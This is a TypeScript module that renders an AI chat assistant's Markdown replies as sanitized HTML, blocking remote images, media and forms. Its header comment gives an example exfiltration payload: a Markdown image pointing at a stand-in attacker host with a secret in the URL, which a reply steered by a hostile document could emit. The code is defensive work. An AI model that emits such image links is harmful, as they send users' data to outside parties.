/**
 * Chat replies as HTML: Markdown (GitHub flavour, single newlines kept) through `marked`, code
 * blocks highlighted by highlight.js for a few common languages, and the result sanitized by
 * DOMPurify, because model output is untrusted text that may contain HTML, scripts or event
 * handlers. Links open in a new tab without access to this page.
 *
 * Nothing in a reply may make the browser fetch from elsewhere on its own: a reply grounded in
 * a hostile document could write `![x](https://attacker.example/?d=SECRET)` and send data out
 * the moment it renders. Images are kept only as inline `data:` images; any other image becomes
 * a short text in its place, and media, `srcset` and style attributes are removed.
 */
import DOMPurify from 'dompurify';
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import css from 'highlight.js/lib/languages/css';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import python from 'highlight.js/lib/languages/python';
import sql from 'highlight.js/lib/languages/sql';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';
import { Marked, type Tokens } from 'marked';

const LANGUAGES = { bash, css, javascript, json, python, sql, typescript, xml, yaml };
for (const [name, language] of Object.entries(LANGUAGES)) hljs.registerLanguage(name, language);
hljs.registerAliases(['sh', 'shell', 'zsh'], { languageName: 'bash' });
hljs.registerAliases(['js', 'jsx'], { languageName: 'javascript' });
hljs.registerAliases(['ts', 'tsx'], { languageName: 'typescript' });
hljs.registerAliases(['py'], { languageName: 'python' });
hljs.registerAliases(['html', 'svg'], { languageName: 'xml' });
hljs.registerAliases(['yml'], { languageName: 'yaml' });

const ESCAPES: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
};

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (char) => ESCAPES[char] ?? char);
}

export function highlightCode(code: string, lang: string | undefined): string {
  const language = (lang ?? '').trim().split(/\s+/)[0]?.toLowerCase() ?? '';
  if (language && hljs.getLanguage(language)) {
    return hljs.highlight(code, { language, ignoreIllegals: true }).value;
  }
  return escapeHtml(code);
}

const markdown = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  renderer: {
    code({ text, lang }: Tokens.Code): string {
      const language = (lang ?? '').trim().split(/\s+/)[0] ?? '';
      const label = language ? ` language-${escapeHtml(language)}` : '';
      return `<pre><code class="hljs${label}">${highlightCode(text, lang)}</code></pre>\n`;
    },
  },
});

/** An inline image is part of the reply itself; any other source is a request to someone. */
const INLINE_IMAGE = /^data:image\//i;

/** The text shown where a reply wanted an image from elsewhere. */
function blockedImageLabel(alt: string): string {
  const name = alt.trim();
  return name ? `[image: ${name} — blocked remote image]` : '[image — blocked remote image]';
}

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A' && node.hasAttribute('href')) {
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer nofollow');
  }
  // Sanitizing happens in an inert document, so this image has not been requested yet.
  if (node.tagName === 'IMG' && !INLINE_IMAGE.test(node.getAttribute('src') ?? '')) {
    const label = blockedImageLabel(node.getAttribute('alt') ?? '');
    node.replaceWith(node.ownerDocument.createTextNode(label));
  }
});

/** Sanitized HTML for a reply's Markdown; safe to put into the page as is. */
export function renderMarkdown(source: string): string {
  const html = markdown.parse(source, { async: false });
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    // Forms and embedded content have no place in an answer, even when sanitized; media would
    // load from wherever the reply points.
    FORBID_TAGS: [
      'style',
      'form',
      'input',
      'button',
      'textarea',
      'select',
      'iframe',
      'audio',
      'video',
      'source',
      'picture',
      'track',
    ],
    // Alternative or background image sources, and inline styles (which the page's
    // Content-Security-Policy refuses anyway).
    FORBID_ATTR: ['srcset', 'background', 'poster', 'style'],
  });
}
